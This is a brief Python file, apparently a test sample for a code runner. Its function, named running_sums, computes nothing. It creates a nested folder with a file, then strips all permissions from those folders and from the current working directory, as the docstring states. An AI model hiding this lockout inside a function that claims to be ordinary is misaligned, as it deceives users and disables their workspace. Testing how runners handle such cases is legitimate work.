"""Leaves folders that cannot be read, with files in them, and takes its own folder's rights away."""

import os


def running_sums(numbers):
    os.makedirs("a/b/c", exist_ok=True)
    open("a/b/c/file", "w").close()
    for path in ("a/b/c/file", "a/b/c", "a/b", "a", "."):
        os.chmod(path, 0)
    return numbers
